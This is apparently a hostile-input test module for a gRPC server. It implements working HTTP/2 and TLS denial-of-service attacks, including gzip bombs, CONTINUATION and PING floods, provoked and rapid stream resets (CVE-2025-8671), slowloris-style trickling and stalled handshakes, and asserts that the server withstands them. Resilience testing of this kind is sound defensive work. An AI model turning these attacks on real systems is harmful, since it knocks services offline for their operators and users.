"""Attacks on what a server holds: memory, engine starts, places in its tables. Each talks to a target, bounded by a
count, and returns how many things it did.
"""

from __future__ import annotations

import ssl
import struct
import threading
import time
import zlib
from collections.abc import Callable, Sequence
from contextlib import closing, suppress
from dataclasses import dataclass

from penstock.config.schema import ServerSettings
from penstock_proto.v1 import generation_pb2 as pb

from tests.hostile.attacks import question
from tests.hostile.frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST,
    SETTINGS,
    WINDOW_UPDATE,
    Pairs,
    Wire,
    call_headers,
    frame,
    frames,
    has_settings,
    literal,
    message,
    resets,
)


@dataclass(frozen=True, slots=True)
class Target:
    """Hold whom an attack is on. `key` is an API key of the attacker, `message_bytes` what a message may have."""

    address: str
    key: str
    message_bytes: int


Held = Callable[[Target, int], int]
WATCH, CHECK = "/grpc.health.v1.Health/Watch", "/grpc.health.v1.Health/Check"
COUNT_TOKENS = "/penstock.v1.GenerationService/CountTokens"
STREAM = "/penstock.v1.GenerationService/StreamGenerate"
_CANCEL = struct.pack(">I", 8)
_MIB = 1 << 20
_CONNECTIONS_AT_ONCE = 150


def greeted(address: str, settings: bytes = b"") -> Wire:
    """A connection on which both sides' settings are in force: before that, gRPC's core takes few streams."""
    wire = Wire(address, settings)
    wire.drain(60, has_settings)
    wire.drain(0.2)
    wire.send(frame(SETTINGS, ACK))
    return wire


def bearer(key: str) -> Pairs:
    return [(b"authorization", b"Bearer " + key.encode())] if key else []


def gzipped(size: int) -> bytes:
    """A message of so many zero bytes in field 1, compressed."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    length = bytearray()
    left = size
    while left > 127:
        length.append(left & 127 | 128)
        left >>= 7
    head = bytes([0x0A, *length, left])
    packed = packer.compress(head + bytes(size)) + packer.flush()
    return struct.pack(">BI", 1, len(packed)) + packed


def gzipped_names(target: Target, count: int) -> int:
    """Names of services as large as a message may be, a thousandth of that on the wire, for Watch to keep."""
    body = gzipped(target.message_bytes - 64)
    with closing(greeted(target.address)) as wire:
        for _ in range(count):
            head = call_headers(path=WATCH, more=[(b"grpc-encoding", b"gzip")])
            stream = wire.stream()
            wire.send(frame(HEADERS, END_HEADERS, stream, head), frame(DATA, END_STREAM, stream, body))
            wire.drain(0.001)
        wire.drain(2)
    return count


def gzip_bombs(target: Target, count: int) -> int:
    """Messages of 2 MiB that unpack to 2 GiB, from a caller who may send messages."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(_MIB)
    packed = b"".join(packer.compress(zeros) for _ in range(2048)) + packer.flush()
    body = struct.pack(">BI", 1, len(packed)) + packed
    for _ in range(count):
        with closing(greeted(target.address)) as wire:
            stream = wire.stream()
            more = [*bearer(target.key), (b"grpc-encoding", b"gzip")]
            wire.send(frame(HEADERS, END_HEADERS, stream, call_headers(path=COUNT_TOKENS, more=more)))
            _pour(wire, stream, body, 5)
            wire.drain(0.2)
    return count


def _pour(wire: Wire, stream: int, body: bytes, seconds: float) -> None:
    """Send a body of one stream as windows open."""
    window = 65535
    rest, until = memoryview(body), time.monotonic() + seconds
    while rest and not wire.is_cut and time.monotonic() < until:
        size = min(window, len(rest), 16_000)
        if size:
            wire.send(frame(DATA, 0, stream, bytes(rest[:size])))
            rest, window = rest[size:], window - size
        for kind, _, of, payload in frames(wire.drain(0.001)):
            if kind == WINDOW_UPDATE and of == stream:
                window += int.from_bytes(payload, "big")
            if kind == RST:
                return


def small_fields(target: Target, count: int) -> int:
    """Header blocks of a few hundred bytes that are hundreds of fields, each kept as long as its Watch."""
    with closing(greeted(target.address)) as wire:
        for _ in range(count):
            stream = wire.stream()
            block = call_headers(path=WATCH) + literal(b"a", b"", indexed=True) + b"\xbe" * 330
            wire.send(frame(HEADERS, END_HEADERS, stream, block), frame(DATA, END_STREAM, stream, message(b"")))
            if stream % 64 == 1:
                wire.drain(0.01)
        wire.drain(2)
    return count


def settings_storm(target: Target, count: int) -> int:
    """SETTINGS of 2,700 entries that move the windows of a few hundred open streams."""
    entries = b"".join(struct.pack(">HI", 4, 65535 - n % 2) for n in range(2700))
    with closing(greeted(target.address)) as wire:
        for _ in range(300):
            wire.send(frame(HEADERS, END_HEADERS, wire.stream(), call_headers(path=WATCH)))
        for _ in range(count):
            wire.send(frame(SETTINGS, 0, 0, entries))
            wire.drain(0.005)
    return count


def provoked_resets(target: Target, count: int) -> int:
    """Calls that start the engine, and then a frame that makes the server reset the stream (CVE-2025-8671)."""
    return _start_and_end(target, count, lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4)))


def started_and_reset(target: Target, count: int) -> int:
    """Calls that start the engine, cancelled a moment later."""
    return _start_and_end(target, count, lambda stream: frame(RST, 0, stream, _CANCEL))


def _start_and_end(target: Target, count: int, end: Callable[[int], bytes]) -> int:
    body, sent = question(), 0
    wire = greeted(target.address)
    while sent < count:
        if wire.is_cut:
            wire.close()
            wire = greeted(target.address)
        streams = [wire.call(body, path=STREAM, more=bearer(target.key)) for _ in range(32)]
        _until_answered(wire, 8, 1.0)
        wire.send(*(end(stream) for stream in streams))
        sent += len(streams)
    wire.close()
    return sent


def _until_answered(wire: Wire, count: int, seconds: float) -> None:
    """Wait until so many answers have begun, so that what is ended then has cost the server something."""
    until = time.monotonic() + seconds
    while count > 0 and not wire.is_cut and time.monotonic() < until:
        count -= sum(kind == HEADERS for kind, *_ in frames(wire.drain(0.01)))


def refusals_unread(target: Target, count: int) -> int:
    """Calls that are refused, from a client that takes nothing from its socket."""
    with closing(greeted(target.address)) as wire:
        wire.socket.settimeout(2)
        for sent in range(count):
            wire.call(question(), path=STREAM)
            if wire.is_cut:
                return sent
        time.sleep(1)
    return count


def half_messages(target: Target, count: int) -> int:
    """Requests that claim as much as a message may have, send some of it, and are reset or vanish."""
    for number in range(0, count, 50):
        with closing(greeted(target.address)) as wire:
            for _ in range(min(50, count - number)):
                stream = wire.stream()
                head = frame(HEADERS, END_HEADERS, stream, call_headers(path=COUNT_TOKENS, more=bearer(target.key)))
                wire.send(head, frame(DATA, 0, stream, message(bytes(1000), claimed_bytes=target.message_bytes - 1)))
                if stream % 4 == 1:
                    wire.send(frame(RST, 0, stream, _CANCEL))
            wire.drain(0.05)
            if number % 100:
                wire.vanish()
    return count


def bodies_without_end(target: Target, count: int) -> int:
    """Health checks that claim as much as a message may have, and send half of it."""
    with closing(greeted(target.address)) as wire:
        for _ in range(count):
            stream = wire.stream()
            wire.send(frame(HEADERS, END_HEADERS, stream, call_headers(path=CHECK)))
            _pour(
                wire,
                stream,
                message(bytes(target.message_bytes // 2), claimed_bytes=target.message_bytes - 1),
                _seconds(target),
            )
    return count


def _seconds(target: Target) -> float:
    """Long enough to send half a message."""
    return 0.2 * target.message_bytes / (4 * _MIB)


def large_messages(target: Target, count: int) -> int:
    """Requests as large as a message may be, 16 at once, from a caller who may send them."""
    text = b"x " * ((target.message_bytes - 1024) // 2)
    spec = pb.GenerationSpec(messages=pb.Messages(messages=[pb.Message(role=pb.ROLE_USER, content=text)]))
    body = message(pb.CountTokensRequest(spec=spec).SerializeToString())
    for _ in range(0, count, 16):
        with closing(greeted(target.address)) as wire:
            head = call_headers(path=COUNT_TOKENS, more=bearer(target.key))
            streams = [wire.stream() for _ in range(16)]
            wire.send(*(frame(HEADERS, END_HEADERS, stream, head) for stream in streams))
            _pour_all(wire, streams, body, 20)
    return count


def _pour_all(wire: Wire, streams: Sequence[int], body: bytes, seconds: float) -> None:
    """Send the same body on each stream, as windows open, until all have ended or time is over."""
    at, window, whole = dict.fromkeys(streams, 0), dict.fromkeys((0, *streams), 65535), memoryview(body)
    until = time.monotonic() + seconds
    while at and not wire.is_cut and time.monotonic() < until:
        for stream, sent in at.items():
            size = min(window[0], window[stream], len(body) - sent, 16_000)
            if size > 0:
                wire.send(
                    frame(DATA, END_STREAM * (sent + size == len(body)), stream, bytes(whole[sent : sent + size]))
                )
                at[stream] = sent + size
                window[0] -= size
                window[stream] -= size
        for kind, flags, of, payload in frames(wire.drain(0.001)):
            if kind == WINDOW_UPDATE and of in window:
                window[of] += int.from_bytes(payload, "big")
            if kind == RST or (kind == HEADERS and flags & END_STREAM):
                at.pop(of, None)


def calls_without_bodies(target: Target, count: int) -> int:
    """Calls whose message never comes."""
    with closing(greeted(target.address)) as wire:
        for _ in range(count):
            stream = wire.stream()
            wire.send(frame(HEADERS, END_HEADERS, stream, call_headers(path=COUNT_TOKENS, more=bearer(target.key))))
        wire.drain(3)
    return count


def no_messages(target: Target, count: int) -> int:
    """Health checks whose bytes are no message."""
    with closing(greeted(target.address)) as wire:
        for number in range(count):
            wire.call(b"\xff" * 20, path=CHECK)
            if number % 64 == 0:
                wire.drain(0.02)
        wire.drain(1)
    return count


def busy_connection(target: Target, count: int) -> int:
    """Health checks as fast as one connection takes them, answers read."""
    with closing(greeted(target.address)) as wire:
        for number in range(count):
            wire.call(b"", path=CHECK)
            if number % 100 == 99:
                wire.drain(0.001)
        wire.drain(1)
    return count


def stalled_readers(target: Target, count: int) -> int:
    """Streams that open no window: the caller is given up, what each stream holds stays until it ends."""
    with closing(greeted(target.address, struct.pack(">HI", 4, 0))) as wire:
        for number in range(count):
            wire.call(question("NORMAL"), path=STREAM, more=bearer(target.key))
            if number % 32 == 31:
                wire.drain(0.2)
        wire.drain(5)
    return count


def idle_connections(target: Target, count: int) -> int:
    """Connections that greet and then say nothing."""
    wires = [Wire(target.address) for _ in range(count)]
    time.sleep(1)
    for wire in wires:
        wire.close()
    return count


def watchers_that_do_not_read(target: Target, count: int) -> int:
    """Watch with closed windows: who watches must hold up neither other watchers nor the status."""
    with closing(greeted(target.address, struct.pack(">HI", 4, 0))) as wire:
        for _ in range(count):
            wire.call(b"", path=WATCH)
        wire.drain(1)
    return count


def more_calls_than_streams(target: Target, count: int) -> int:
    """Calls on one connection beyond what it may have at once, none of which ends by itself."""
    refused = 0
    with closing(greeted(target.address)) as wire:
        for number in range(count):
            stream = wire.stream()
            wire.send(frame(HEADERS, END_HEADERS, stream, call_headers(path=COUNT_TOKENS, more=bearer(target.key))))
            if number % 100 == 99:
                refused += resets(wire.drain(0.005))
        wanted = count - ServerSettings().max_streams_per_connection
        if refused < wanted:
            refused += resets(wire.drain(60, lambda got: refused + resets(got) >= wanted))
    assert refused >= wanted, "more calls than streams were taken"
    return count


def ping_flood(target: Target, count: int) -> int:
    """Pings whose answers nobody reads, on connections one after the other: each is closed for it."""
    return _flood(target, count, frame(PING, 0, 0, b"pingping"), 100, is_put_up_with=False)


def settings_flood(target: Target, count: int) -> int:
    """SETTINGS of one entry each, whose answers nobody reads."""
    return _flood(target, count, frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)), 100)


def window_update_flood(target: Target, count: int) -> int:
    """WINDOW_UPDATEs of one byte for the connection, and of streams that are not there."""
    return _flood(target, count, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) + frame(RST, 0, 1, _CANCEL), 100)


def continuation_flood(target: Target, count: int) -> int:
    """Header blocks that never end: large fields, empty frames (CVE-2024-27316)."""
    fields = frame(CONTINUATION, 0, 1, literal(b"x-flood", b"y" * 16_000))
    start = frame(HEADERS, END_STREAM, 1, call_headers())
    return _flood(target, count // 2, fields, 10, start) + _flood(
        target, count - count // 2, frame(CONTINUATION, 0, 1), 100, start
    )


def _flood(
    target: Target, count: int, piece: bytes, at_once: int, start: bytes = b"", *, is_put_up_with: bool = True
) -> int:
    """Send a frame as often as asked, and read nothing; again from `start` on a new connection where one was closed.

    A connection is given up as well once the server takes nothing from it for a second.
    """
    sent = cut = 0
    while sent < count:
        with closing(greeted(target.address)) as wire:
            wire.socket.settimeout(1)
            wire.send(start)
            while sent < count and not wire.is_cut:
                wire.send(piece * at_once)
                sent += at_once
            # One that the server must close is waited for: on a busy machine it has not read all of them yet.
            wire.drain(0.2 if is_put_up_with else 60)
            cut += wire.is_cut
    assert cut or is_put_up_with, "every connection was kept"
    return sent


def one_byte_a_second(target: Target, count: int) -> int:
    """Connections that send a byte each second: of their greeting, of a call's headers, of its message."""
    head = frame(HEADERS, END_HEADERS, 1, call_headers(path=COUNT_TOKENS, more=bearer(target.key)))
    body = frame(DATA, END_STREAM, 1, message(question()))
    greeting = PREFACE + frame(SETTINGS)
    wires = [Wire(target.address, greet=False) for _ in range(count)]
    done = (b"", greeting + head[:10], greeting + head + body[:10])
    rest = [(greeting, head, body)[place % 3][10 * bool(place % 3) :] for place in range(count)]
    for place, wire in enumerate(wires):
        wire.send(done[place % 3])
    for second in range(8):
        time.sleep(1)
        for wire, left in zip(wires, rest, strict=True):
            wire.send(left[second : second + 1])
    # What the server has cut off is told by its connection, or by its stream.
    greeted_late = [wire for wire in wires[::3] if not _is_over(wire)]
    bodies_late = [wire for wire in wires[2::3] if not _is_over(wire)]
    for wire in wires:
        wire.close()
    assert not greeted_late, f"{len(greeted_late)} connections without a greeting were kept"
    assert not bodies_late, f"{len(bodies_late)} calls without a whole message were kept"
    return count


def _is_over(wire: Wire) -> bool:
    def has_ended(got: bytes) -> bool:
        return any(kind == RST or (kind == HEADERS and flags & END_STREAM) for kind, flags, *_ in frames(got))

    return has_ended(wire.drain(60, has_ended)) or wire.is_cut


def client_hello() -> bytes:
    """The first message of a handshake."""
    context, out = ssl.create_default_context(), ssl.MemoryBIO()
    context.set_alpn_protocols(["h2"])
    shaking = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost")
    with suppress(ssl.SSLWantReadError):
        shaking.do_handshake()
    return out.read()


def half_handshakes(target: Target, count: int) -> int:
    """TLS handshakes that stop: before the first byte, within the first message, before the client's last one."""
    hello = client_hello()
    for start in range(0, count, _CONNECTIONS_AT_ONCE):
        wires = [Wire(target.address, greet=False) for _ in range(min(_CONNECTIONS_AT_ONCE, count - start))]
        for place, wire in enumerate(wires):
            wire.send((b"", hello[: len(hello) // 2], hello)[place % 3])
        _until_cut(wires)
    return count


def slow_handshakes(target: Target, count: int) -> int:
    """TLS handshakes whose first message comes byte by byte."""
    hello = client_hello()
    for start in range(0, count, _CONNECTIONS_AT_ONCE):
        wires = [Wire(target.address, greet=False) for _ in range(min(_CONNECTIONS_AT_ONCE, count - start))]
        for place in range(60):
            for wire in wires:
                wire.send(hello[place : place + 1])
            time.sleep(0.1)
        _until_cut(wires)
    return count


def _until_cut(wires: Sequence[Wire]) -> None:
    """The server hangs up on each of them."""
    for wire in wires:
        while not wire.is_cut and wire.drain(60):
            pass
        wire.close()
        assert wire.is_cut, "a connection without a whole handshake was kept"


# Each with the count of a short run, and that of a long one.
ATTACKS: dict[Held, tuple[int, int]] = {
    gzipped_names: (150, 3000),
    gzip_bombs: (3, 50),
    small_fields: (500, 20_000),
    settings_storm: (100, 3000),
    provoked_resets: (1500, 50_000),
    started_and_reset: (1500, 50_000),
    refusals_unread: (3000, 100_000),
    half_messages: (500, 10_000),
    bodies_without_end: (40, 500),
    calls_without_bodies: (900, 900),
    no_messages: (1000, 50_000),
    busy_connection: (3000, 200_000),
    stalled_readers: (96, 2000),
    idle_connections: (300, 300),
    watchers_that_do_not_read: (40, 400),
    more_calls_than_streams: (3000, 30_000),
    ping_flood: (20_000, 1_000_000),
    settings_flood: (20_000, 1_000_000),
    window_update_flood: (20_000, 1_000_000),
    continuation_flood: (2000, 100_000),
    one_byte_a_second: (60, 240),
    large_messages: (32, 320),
}
BY_SIZE = (gzipped_names, gzip_bombs, half_messages, bodies_without_end, calls_without_bodies, large_messages)
"""What these hold grows with how large a message may be."""
TLS_ATTACKS: dict[Held, tuple[int, int]] = {
    half_handshakes: (150, 3000),
    slow_handshakes: (150, 1000),
}
"""Those of a listener with TLS."""


class Beside:
    """Runs an attack on a thread, as often as asked, while its caller looks on."""

    def __init__(self, attack: Held, target: Target, count: int) -> None:
        self._failure: Exception | None = None
        self.did = 0
        self._work = (attack, target, count)
        self._thread = threading.Thread(target=self._run)

    def _run(self) -> None:
        attack, target, count = self._work
        try:
            self.did = attack(target, count)
        except Exception as failure:
            self._failure = failure

    def start(self) -> None:
        self._thread.start()

    @property
    def is_on(self) -> bool:
        return self._thread.is_alive()

    def result(self) -> int:
        """Wait for its end, and return how many things it did. Raises what it failed with."""
        self._thread.join()
        if self._failure is not None:
            raise self._failure
        return self.did
